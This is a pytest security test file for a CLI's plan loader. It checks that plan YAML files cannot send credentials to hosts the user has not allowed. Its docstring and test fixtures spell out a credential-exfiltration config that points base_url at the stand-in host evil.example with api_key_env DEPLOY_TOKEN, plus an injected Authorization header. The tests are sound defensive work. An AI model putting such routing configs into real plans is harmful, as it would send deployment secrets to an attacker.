"""A plan (which may come from a pull request) cannot pick which secret goes to which host:
routing options in the file need the user's allowance outside the file.

The attack this stops: ``judge_options: {base_url: <attacker>, api_key_env: DEPLOY_TOKEN}``
sent ``Authorization: Bearer $DEPLOY_TOKEN`` to the plan's URL.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from agility.cli.main import _register, app
from agility.errors import ConfigError
from agility.migrate import load_plan
from agility.providers import RoutingPolicy
from agility.testing import FakeOpenAIServer

_register()

HEAD = ("name: p\ndataset: {path: golden.jsonl}\n"
        "source: {name: a, model: mock/echo}\ntarget: {name: b, model: mock/echo}\n")


def _plan(tmp_path: Path, tail: str) -> Path:
    (tmp_path / "golden.jsonl").write_text(
        '{"id": "1", "source_prompt": "q", "ground_truth": "a"}\n', encoding="utf-8")
    path = tmp_path / "plan.yaml"
    path.write_text(HEAD + tail, encoding="utf-8")
    return path


@pytest.mark.parametrize("tail, field", [
    ("judge: openai/j\njudge_options: {base_url: 'https://evil.example/v1', "
     "api_key_env: DEPLOY_TOKEN}\n", "judge_options.base_url"),
    ("judge: openai/j\njudge_options: {api_key_env: DEPLOY_TOKEN}\n", "judge_options.api_key_env"),
    ("metrics: [{name: rubric, criteria: x, base_url: 'http://evil.example:8080/v1'}]\n",
     "metrics.0.base_url"),
    ("judge_options: {headers: {Authorization: 'Bearer abc'}}\n", "judge_options.headers"),
])
def test_routing_options_in_a_plan_are_refused_unless_allowed_outside_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tail: str, field: str) -> None:
    monkeypatch.delenv("AGILITY_ALLOW_HOSTS", raising=False)
    monkeypatch.delenv("AGILITY_ALLOW_KEY_ENVS", raising=False)
    with pytest.raises(ConfigError) as raised:
        load_plan(_plan(tmp_path, tail))
    assert f"plan.yaml:5: {field}:" in str(raised.value) or \
        f"plan.yaml:6: {field}:" in str(raised.value)


def test_the_candidates_provider_options_are_checked_too(tmp_path: Path) -> None:
    plan = _plan(tmp_path, "").read_text().replace(
        "target: {name: b, model: mock/echo}",
        "target: {name: b, model: openai/x, provider_options: {base_url: 'https://evil.example'}}")
    (tmp_path / "plan.yaml").write_text(plan)
    with pytest.raises(ConfigError, match="target.provider_options.base_url"):
        load_plan(tmp_path / "plan.yaml")


def test_the_user_allows_hosts_and_key_names_outside_the_file(tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch
                                                              ) -> None:
    path = _plan(tmp_path, "judge: openai/j\njudge_options: {base_url: 'https://llm.corp/v1', "
                           "api_key_env: CORP_KEY}\n")
    plan = load_plan(path, routing=RoutingPolicy(hosts=frozenset({"llm.corp"}),
                                                 credentials=frozenset({"CORP_KEY"})))
    assert plan.judge_options["base_url"] == "https://llm.corp/v1"
    monkeypatch.setenv("AGILITY_ALLOW_HOSTS", "llm.corp")
    monkeypatch.setenv("AGILITY_ALLOW_KEY_ENVS", "CORP_KEY")
    assert load_plan(path).judge_options["api_key_env"] == "CORP_KEY"


def test_loopback_is_allowed_without_asking(tmp_path: Path) -> None:
    path = _plan(tmp_path, "judge: openai/j\njudge_options: {base_url: 'http://127.0.0.1:8/v1'}\n")
    assert load_plan(path).judge_options["base_url"].startswith("http://127.0.0.1")


def test_no_request_leaves_for_a_refused_plan(tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEPLOY_TOKEN", "deploy-secret-value-123")
    with FakeOpenAIServer() as server:
        # the server is on loopback, so the host is allowed; the credential name is not
        path = _plan(tmp_path, f"judge: openai/j\njudge_options: {{base_url: '{server.base_url}',"
                               f" api_key_env: DEPLOY_TOKEN}}\nmetrics: [safety]\n")
        result = CliRunner().invoke(app, ["migrate", str(path), "--no-progress",
                                          "--store", str(tmp_path / "a.db")])
        assert server.requests == []
    assert result.exit_code == 2 and "judge_options.api_key_env" in result.output
    assert "deploy-secret-value-123" not in result.output
